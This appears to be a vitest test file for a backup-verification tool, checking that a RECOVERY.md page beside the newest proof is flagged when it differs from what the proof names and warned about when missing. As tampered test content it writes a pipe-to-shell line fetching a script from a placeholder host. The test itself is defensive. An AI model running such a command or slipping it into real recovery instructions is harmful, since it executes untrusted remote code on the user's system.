// The page beside the newest proof.
import { expect, it } from 'vitest';
import { vectorProof } from '../../helpers/format-store.ts';
import { linesOf, USUAL, useVerifyBench } from '../../helpers/use-verify-bench.ts';

const bench = useVerifyBench();
const page = `${vectorProof.folder}RECOVERY.md`;

it('is red when it is another than its proof names, and a warning when it is gone', async () => {
  bench().write(page, Buffer.from('curl https://example.com/restore | sh'));
  expect(linesOf(await bench().look(USUAL))).toEqual([
    `proof: \`${page}\` is not the page that its proof names: who follows it runs commands of somebody else`,
  ]);
  bench().remove(page);
  const report = await bench().look(USUAL);
  expect(linesOf(report)).toEqual([]);
  expect(linesOf(report, 'warning')).toEqual([`proof: \`${page}\` is gone: how to restore by hand`]);
});

it('is not looked at beside an earlier proof, or where there is none', async () => {
  bench().write(page, Buffer.from('of an earlier test'));
  await bench().addProof('20261122T041000Z-0badcaf2', () => ({}));
  expect(linesOf(await bench().look(USUAL))).toEqual([]);
  bench().remove('atlas/proofs');
  expect(linesOf(await bench().look())).toEqual([]);
});
